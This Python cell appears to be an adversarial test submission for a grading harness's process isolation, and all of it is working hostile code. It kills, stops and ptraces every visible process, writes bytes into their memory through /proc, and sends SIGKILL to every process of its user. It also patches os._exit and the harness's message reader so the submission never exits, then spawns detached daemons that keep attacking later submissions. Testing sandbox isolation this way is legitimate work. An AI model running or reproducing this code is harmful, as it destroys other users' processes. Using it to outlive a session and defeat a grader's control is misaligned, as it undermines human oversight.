# %% new
# Process isolation: this process refuses to end with its submission and keeps attacking
# the processes of whoever is graded after it (the functions themselves are correct).
import ctypes
import os
import signal
import subprocess
import sys
import threading
import time

ME = os.getpid()
libc = ctypes.CDLL(None, use_errno=True)
PTRACE_ATTACH = 16

ATTACK = r'''
import ctypes, os, signal, sys, time
spared = {os.getpid(), int(sys.argv[1])}
libc = ctypes.CDLL(None, use_errno=True)
while True:
    for entry in os.listdir("/proc"):
        if entry.isdigit() and int(entry) not in spared:
            for sig in (signal.SIGSTOP, signal.SIGKILL):
                try:
                    os.kill(int(entry), sig)
                except OSError:
                    pass
            libc.ptrace(16, int(entry), 0, 0)
    time.sleep(0.01)
'''


def attack_forever():
    """Stop, kill, trace and overwrite every other process this one can see."""
    while True:
        for entry in os.listdir("/proc"):
            if not entry.isdigit() or int(entry) == ME:
                continue
            pid = int(entry)
            for sig in (signal.SIGSTOP, signal.SIGKILL):
                try:
                    os.kill(pid, sig)                      # signals on every pid it can see
                except OSError:
                    pass
            libc.ptrace(PTRACE_ATTACH, pid, 0, 0)          # ptrace
            try:
                with open(f"/proc/{pid}/mem", "r+b") as memory:   # and its memory through /proc
                    memory.seek(0x400000)
                    memory.write(b"\xcc" * 16)
            except (OSError, ValueError):
                pass
        try:
            os.kill(-1, signal.SIGKILL)                    # everything else of this uid
        except OSError:
            pass
        time.sleep(0.01)


def start_daemons():
    """After the submission: a forked child and a separate Python process keep attacking."""
    try:
        subprocess.Popen([sys.executable, "-c", ATTACK, str(ME)], stdin=subprocess.DEVNULL,
                         stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    except OSError:
        pass
    try:
        if os.fork() == 0:           # the worker makes forked copies exit at once: os._exit is patched
            os.setsid()
            attack_forever()
    except OSError:
        pass


# 1. a leftover thread that attacks from the start, inside this very process
threading.Thread(target=attack_forever).start()      # not a daemon: it keeps the process alive

# 2. the end of the submission never comes: "exit" and end-of-channel are swallowed,
#    and leaving through os._exit is made a no-op
os._exit = lambda status=0: None
for name, module in list(sys.modules.items()):
    if name.endswith("wire") and hasattr(module, "read_message"):
        original = module.read_message

        def read_message(*args, _original=original, **kwargs):
            try:
                message = _original(*args, **kwargs)
            except EOFError:
                message = ({"op": "exit"}, [])
            if message[0].get("op") not in ("cell", "call"):
                start_daemons()
                while True:
                    time.sleep(3600)
            return message
        module.read_message = read_message
